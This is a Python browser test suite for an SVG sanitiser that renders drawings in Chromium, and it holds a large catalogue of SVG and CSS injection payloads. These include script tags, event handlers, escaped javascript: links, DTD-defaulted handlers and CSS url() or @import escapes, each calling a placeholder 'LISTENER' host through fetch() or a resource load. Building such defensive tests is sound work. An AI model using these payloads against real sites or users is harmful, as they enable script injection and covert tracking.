"""Sanitised drawings in Chromium: nothing is loaded from elsewhere, no script runs, and ordinary drawings look the same.

The vectors are of our own making, after SVG 2 (linking, scripting), CSS Syntax 3 (escapes, error recovery), CSS Images 4 and HTML.
`LISTENER` in each stands for the address of another server, which must hear nothing.
"""

from __future__ import annotations

import io
import re
import subprocess
import sys
import threading
import zipfile
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import heroicons
import matplotlib as mpl
import numpy as np
import pytest
from matplotlib.figure import Figure
from PIL import Image
from playwright.sync_api import Browser, Page

from young_prism.core.errors import DamagedError
from young_prism.core.inspection.polyglots import find_danger
from young_prism.core.svg.sanitise import sanitise
from young_prism.core.types import ImageFormat
from young_prism.demo import graphics

pytestmark = pytest.mark.browser

NAMES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:h="http://www.w3.org/1999/xhtml"'
BOX = '<rect id="r" width="200" height="200" fill="red"/>'
TEXT = '<text y="50" font-family="f">words</text>'
DATA_SVG = "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="


def style(css: str) -> str:
    return f"<style>{css}</style>{BOX}{TEXT}"


VECTORS = {
    # Scripts
    "script": "<script>fetch('LISTENER')</script>",
    "script with a prefix": '<s:script xmlns:s="http://www.w3.org/2000/svg">fetch("LISTENER")</s:script>',
    "script by address": '<script xlink:href="LISTENER"/>',
    "html script": "<h:script>fetch('LISTENER')</h:script>",
    "onload": f"<g onload=\"fetch('LISTENER')\">{BOX}</g>",
    "onload of the root": None,
    "onclick": f"<g onclick=\"fetch('LISTENER')\">{BOX}</g>",
    "ONCLICK": f"<g ONCLICK=\"fetch('LISTENER')\">{BOX}</g>",
    "onbegin": "<animate attributeName=\"x\" dur=\"1s\" onbegin=\"fetch('LISTENER')\"/>",
    "handler": "<handler xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=\"load\">fetch('LISTENER')</handler>",
    "javascript link": f"<a xlink:href=\"javascript:fetch('LISTENER')\">{BOX}</a>",
    "javascript link with a tab": f"<a href=\"java&#9;script:fetch('LISTENER')\">{BOX}</a>",
    "javascript link behind a control": f"<a href=\"&#32;&#10;javascript:fetch('LISTENER')\">{BOX}</a>",
    "data link": f"<a href=\"data:text/html,&lt;script&gt;fetch('LISTENER')&lt;/script&gt;\">{BOX}</a>",
    "set xlink:href": f"<a><set attributeName=\"xlink:href\" to=\"javascript:fetch('LISTENER')\"/>{BOX}</a>",
    "animate href": f"<a><animate attributeName=\"href\" values=\"javascript:fetch('LISTENER')\" dur=\"9s\"/>{BOX}</a>",
    "animate xlink:href": f"<a xlink:href=\"#r\"><animate attributeName=\"xlink:href\" values=\"javascript:fetch('LISTENER')\" dur=\"9s\"/>{BOX}</a>",
    "set onclick": f"<g><set attributeName=\"onclick\" to=\"fetch('LISTENER')\"/>{BOX}</g>",
    "attribute default of a DTD": None,
    # Addresses in attributes
    "image": '<image xlink:href="LISTENER" width="9" height="9"/>',
    "image without a prefix": '<image href="LISTENER" width="9" height="9"/>',
    "image without a scheme": '<image href="NOSCHEME" width="9" height="9"/>',
    "feImage": f'<filter id="f"><feImage href="LISTENER"/></filter><g filter="url(#f)">{BOX}</g>',
    "use": '<use href="LISTENER#x"/>',
    "use of a drawing in data": f'<use href="{DATA_SVG}#x"/>',
    "image of a drawing in data": f'<image href="{DATA_SVG}" width="9" height="9"/>',
    "set image xlink:href": '<image width="9" height="9"><set attributeName="xlink:href" to="LISTENER"/></image>',
    "animate image href": '<image width="9" height="9"><animate attributeName="xlink:href" values="LISTENER" dur="9s"/></image>',
    "set feImage href": f'<filter id="f"><feImage><set attributeName="href" to="LISTENER"/></feImage></filter><g filter="url(#f)">{BOX}</g>',
    "gradient by address": f'<linearGradient id="g" href="LISTENER#g"/><g fill="url(#g)">{BOX}</g>',
    "pattern by address": f'<pattern id="p" xlink:href="LISTENER#p"/><g fill="url(#p)">{BOX}</g>',
    "textPath": '<text><textPath href="LISTENER#p">words</textPath></text>',
    "xml:base": '<g xml:base="LISTENER/"><image href="x.png" width="9" height="9"/></g>',
    "cursor attribute": f'<g cursor="url(LISTENER), auto">{BOX}</g>',
    "fill": '<rect width="200" height="200" fill="url(LISTENER#g)"/>',
    "filter": '<rect width="200" height="200" filter="url(LISTENER#f)"/>',
    "mask": '<rect width="200" height="200" mask="url(LISTENER#m)"/>',
    "clip-path": '<rect width="200" height="200" clip-path="url(\'LISTENER#c\')"/>',
    "marker": '<path d="M0 0L50 50" marker-start="url(LISTENER#m)" stroke="red"/>',
    "set fill": f'<g><set attributeName="mask" to="url(LISTENER#m)"/>{BOX}</g>',
    # Elements of documents
    "foreignObject": '<foreignObject width="99" height="99"><h:img src="LISTENER"/></foreignObject>',
    "html img": '<h:img src="LISTENER"/>',
    "html img srcset": '<h:img srcset="LISTENER 1x"/>',
    "html picture": '<h:picture><h:source srcset="LISTENER"/><h:img/></h:picture>',
    "html body background": '<h:body background="LISTENER"/>',
    "html table background": '<h:table background="LISTENER"><h:tr><h:td>x</h:td></h:tr></h:table>',
    "html link": '<h:link rel="stylesheet" href="LISTENER"/>',
    "html meta": '<h:meta http-equiv="refresh" content="0;url=LISTENER"/>',
    "html base": '<h:base href="LISTENER/"/><image href="x.png" width="9" height="9"/>',
    "html iframe": '<h:iframe src="LISTENER"/>',
    "html object": '<h:object data="LISTENER"/>',
    "html video": '<h:video poster="LISTENER" src="LISTENER"/>',
    "html style": "<h:style>@import url(LISTENER);</h:style>",
    "iframe": '<iframe src="LISTENER"/>',
    "link": '<link rel="stylesheet" href="LISTENER"/>',
    "stylesheet instruction": None,
    # Stylesheets
    "import": style("@import url(LISTENER);"),
    "import of a string": style("@import 'LISTENER';"),
    "import with an escape": style("@im\\port 'LISTENER';"),
    "import with a hex escape": style("@\\69mport 'LISTENER';"),
    "import behind a comment": style("/* */@import/**/'LISTENER';"),
    "import behind a layer": style("@import url(LISTENER) layer(a) supports(display: block);"),
    "import in CDATA": style("<![CDATA[@import url(LISTENER);]]>"),
    "text behind a child of style": "<style><g/>@import url(LISTENER);</style>",
    "text behind a comment": style("<!-- x -->@import url(LISTENER);"),
    "style in a title": "<title><style>@import url(LISTENER);</style></title>",
    "background": style("rect { background-image: url(LISTENER); } svg { background: url(LISTENER) }"),
    "url with an escape": style("svg { background: u\\rl(LISTENER) }"),
    "url with a hex escape": style("svg { background: \\75 rl(LISTENER) }"),
    "URL": style("svg { background: URL( 'LISTENER' ) }"),
    "unclosed url": style("svg { background: url(LISTENER"),
    "unclosed string": style("svg { background: url('LISTENER"),
    "comment in a string": style("a { content: '/*' } svg { background: url(LISTENER) } b { content: '*/' }"),
    "image-set of a string": style("svg { background: image-set('LISTENER' 1x) }"),
    "-webkit-image-set": style("svg { background: -webkit-image-set(url(LISTENER) 1x) }"),
    "cross-fade": style("svg { background: -webkit-cross-fade(url(LISTENER), url(LISTENER), 50%) }"),
    "src function": style("svg { background: src('LISTENER') }"),
    "image function": style("svg { background: image('LISTENER') }"),
    "custom property": style("svg { --a: url(LISTENER); background: var(--a) }"),
    "font-face": style("@font-face { font-family: f; src: url(LISTENER) }"),
    "font-face in media": style("@media all { @font-face { font-family: f; src: url('LISTENER') format('woff2') } }"),
    "nested rule": style("svg { &amp; rect { mask: url(LISTENER#m) } background: red; &amp; { background: url(LISTENER) } }"),
    "in media": style("@media all { @supports (display: block) { svg { background: url(LISTENER) } } }"),
    "keyframes": style("@keyframes k { from, to { background: url(LISTENER) } } svg { animation: k 9s infinite }"),
    "list-style": style("svg { display: list-item; list-style-image: url(LISTENER) }"),
    "content": style("svg::before { content: url(LISTENER) }"),
    "cursor": style("rect { cursor: url(LISTENER), auto }"),
    "border-image": style("svg { border: 9px solid; border-image: url(LISTENER) 9 }"),
    "shape-outside": style("svg { float: left; shape-outside: url(LISTENER) }"),
    "mask-image": style("rect { -webkit-mask-image: url(LISTENER) }"),
    "offset-path": style("rect { offset-path: url(LISTENER#p) }"),
    "style attribute": f'<g style="background: url(LISTENER); mask: url(LISTENER#m)">{BOX}</g>',
    "style attribute with an escape": f'<g style="m\\61sk: u\\rl(LISTENER#m)">{BOX}</g>',
    "style attribute image-set": f"<g style=\"-webkit-mask: image-set('LISTENER' 1x)\">{BOX}</g>",
    "style attribute custom": f'<g style="--x: u\\72l(LISTENER#m); mask: var(--x)">{BOX}</g>',
    "set style": f'<g><set attributeName="style" to="mask: url(LISTENER#m)"/>{BOX}</g>',
    "attributeName with spaces": f"<a><set attributeName=\" xlink:href \" to=\"javascript:fetch('LISTENER')\"/>{BOX}</a>",
}  # fmt: skip
WHOLE = {
    "onload of the root": f"<svg {NAMES} width='200' height='200' onload=\"fetch('LISTENER')\">{BOX}</svg>",
    "attribute default of a DTD": "<!DOCTYPE svg [<!ATTLIST rect onclick CDATA \"fetch('LISTENER')\">]>"
    f"<svg {NAMES} width='200' height='200'>{BOX}</svg>",
    "stylesheet instruction": f"<?xml-stylesheet href='LISTENER' type='text/css'?><svg {NAMES} width='9' height='9'>{BOX}</svg>",
}


class _Heard(BaseHTTPRequestHandler):
    """Serves drawings at /0, /1 …, and notes every other request."""

    files: tuple[bytes, ...] = ()
    requested: tuple[str, ...] = ()

    def do_GET(self) -> None:
        name, _, query = self.path.strip("/").partition("?")
        if name == "all":
            side = query.removeprefix("side=") or "60"
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            frames = "".join(
                f"<iframe src=/{n} style='width:{side}px;height:{side}px;border:0'></iframe>"
                for n in range(len(type(self).files))
            )
            self.wfile.write(f"<!doctype html><body style='margin:0;font-size:0'>{frames}".encode())
            return
        if name.isdecimal():
            self.send_response(200)
            self.send_header("Content-Type", "image/svg+xml")
            self.end_headers()
            self.wfile.write(type(self).files[int(name)])
            return
        if "favicon" not in self.path:
            type(self).requested += (self.path,)
        self.send_response(404)
        self.end_headers()

    do_HEAD = do_POST = do_GET  # noqa: N815

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@pytest.fixture(scope="module")
def server() -> Iterator[tuple[str, type[_Heard]]]:
    handler = type("Heard", (_Heard,), {})
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as http:
        threading.Thread(target=http.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{http.server_address[1]}", handler
        http.shutdown()


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    """A page whose errors are not ours: the vectors are meant to cause some."""
    context = browser.new_context(viewport={"width": 620, "height": 620})
    yield context.new_page()
    context.close()


def document(name: str, address: str) -> bytes:
    text = WHOLE.get(name) or f"<svg {NAMES} width='200' height='200'>{VECTORS[name]}</svg>"
    where = f"{address}/heard/{list(VECTORS).index(name)}"
    return text.replace("LISTENER", where).replace("NOSCHEME", where.removeprefix("http:")).encode()


def open_all(page: Page, address: str, handler: type[_Heard], files: list[bytes]) -> set[int]:
    """Show each drawing in a frame of its own, click links and handlers, and return the numbers of those that loaded something."""
    handler.files, handler.requested = tuple(files), ()
    page.goto(f"{address}/all")
    for frame, text in zip(page.query_selector_all("iframe"), VECTORS.values(), strict=True):
        if not re.search(r"<a[ >]|click", text or "", re.IGNORECASE):
            continue
        box = frame.bounding_box()
        assert box
        page.mouse.click(box["x"] + 20, box["y"] + 20)
    quiet, events = 0, -1
    while quiet < 10:  # a second without another request: those that are made leave at once
        page.wait_for_timeout(100)
        quiet, events = (quiet + 1 if len(handler.requested) == events else 0), len(handler.requested)
    page.goto("about:blank")
    return {
        int(path.split("/")[2].partition("#")[0]) for path in handler.requested if path.startswith("/heard/")
    }


def test_no_vector_loads_or_runs_anything(page: Page, server: tuple[str, type[_Heard]]) -> None:
    address, handler = server
    assert len(VECTORS) >= 60
    as_they_are = [document(name, address) for name in VECTORS]
    loud = open_all(page, address, handler, as_they_are)
    assert len(loud) >= 45, sorted(set(VECTORS) - {list(VECTORS)[n] for n in loud})  # the listener can hear
    clean = []
    for name, data in zip(VECTORS, as_they_are, strict=True):
        result = sanitise(data)
        assert result.removed, name
        assert b"/heard/" not in result.data, name
        again = sanitise(result.data)
        assert (again.data, again.removed) == (result.data, ()), name
        clean.append(result.data)
        if list(VECTORS).index(name) in loud:
            assert find_danger(data, ImageFormat.SVG), name
    events = open_all(page, address, handler, clean)
    assert not events, [list(VECTORS)[number] for number in events]


def charts() -> dict[str, bytes]:
    """Charts as two packages write them: clip paths, markers, hatches, symbols by reference; and a large stylesheet."""
    figure = Figure(figsize=(4, 3))
    axes = figure.subplots()
    axes.plot([1, 2, 3], [3, 1, 2], marker="o", linestyle="--")
    axes.fill_between([1, 2, 3], [1, 2, 1], alpha=0.3, hatch="/")
    axes.set_title("Passengers – Höhe")
    buffer = io.BytesIO()
    figure.savefig(buffer, format="svg")
    pie = subprocess.run([sys.executable, "-c", PIE], capture_output=True, check=True, timeout=60).stdout
    return {"lines": buffer.getvalue(), "pie": pie}


PIE = """
import pygal, sys
pie = pygal.Pie(js=(), width=400, height=300, inner_radius=0.4)
pie.add("up", 3); pie.add("down", 5)
sys.stdout.buffer.write(pie.render())
"""
"""In a process of its own: Pygal changes how Python imports."""


def test_ordinary_drawings_look_the_same(page: Page, server: tuple[str, type[_Heard]]) -> None:
    """The demo's drawings, icons of Matplotlib and Heroicons, charts of Matplotlib and Pygal, compared by pixels."""
    address, handler = server
    folder = Path(mpl.get_data_path()) / "images"
    drawings = {file.name: file.read_bytes() for file in sorted(folder.glob("*.svg"))}
    drawings |= {"logo": graphics.LOGO_SVG.encode(), "gradient": graphics.gradient_svg().encode()}
    icons = zipfile.ZipFile(Path(heroicons.__file__).parent / "heroicons.zip")
    drawings |= {name: icons.read(name) for name in icons.namelist()[::60] if name.endswith(".svg")}
    drawings |= charts()
    assert len(drawings) > 30
    cleaned = {name: sanitise(data) for name, data in drawings.items()}
    assert any(item.removed for item in cleaned.values())
    page.set_viewport_size({"width": 3 * SIDE, "height": SIDE})
    handler.files = tuple(drawings.values())
    before = cells(page, address, len(drawings))
    handler.files = tuple(item.data for item in cleaned.values())
    after = cells(page, address, len(drawings))
    for name, was, now in zip(drawings, before, after, strict=True):
        assert was.std() > 0, name
        assert np.array_equal(was, now), name


SIDE = 420
"""Pixels in which the largest of the drawings has room."""


def cells(page: Page, address: str, number: int) -> list[np.ndarray]:
    """Show all drawings in one page, three in a row, and return the pixels of each."""
    page.goto(f"{address}/all?side={SIDE}")
    whole = np.asarray(Image.open(io.BytesIO(page.screenshot(full_page=True))).convert("RGB"))
    corners = [(SIDE * (at // 3), SIDE * (at % 3)) for at in range(number)]
    return [whole[top : top + SIDE, left : left + SIDE] for top, left in corners]


def test_the_result_depends_on_the_drawing_alone() -> None:
    first = b'<ns0:svg xmlns:ns0="http://www.w3.org/2000/svg" width="4" height="4"><ns0:script/><ns0:g/></ns0:svg>'
    second = b'<o:svg xmlns:o="http://www.w3.org/2000/svg" width="4" height="4" xmlns:x="urn:x"><o:script/><x:y/></o:svg>'
    before = sanitise(first)
    sanitise(second)
    assert sanitise(first) == before
    assert before.data == b'<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"><g /></svg>'


@pytest.mark.parametrize(
    "data",
    [
        b"<svg xmlns='http://www.w3.org/2000/svg'>" + b"<g>" * 5000 + b"</g>" * 5000 + b"</svg>",
        b"<!DOCTYPE svg [<!ENTITY a 'x'>]><svg xmlns='http://www.w3.org/2000/svg'>&a;</svg>",
        b"<html xmlns='http://www.w3.org/1999/xhtml'><svg xmlns='http://www.w3.org/2000/svg'/></html>",
        b"<svg xmlns='http://www.w3.org/2000/svg'>",
        b"<?xml version='1.0' encoding='no-such'?><svg xmlns='http://www.w3.org/2000/svg'/>",
        b"",
    ],
)
def test_what_is_no_usable_drawing_is_refused(data: bytes) -> None:
    with pytest.raises(DamagedError):
        sanitise(data)


def test_a_drawing_in_another_encoding_is_written_as_utf8() -> None:
    text = (
        "<?xml version='1.0' encoding='utf-16'?><svg xmlns='http://www.w3.org/2000/svg'><text>é</text></svg>"
    )
    assert "é".encode() in sanitise(text.encode("utf-16")).data
    latin = "<?xml version='1.0' encoding='iso-8859-1'?><svg xmlns='http://www.w3.org/2000/svg'><text>é</text></svg>"
    assert "é".encode() in sanitise(latin.encode("latin-1")).data
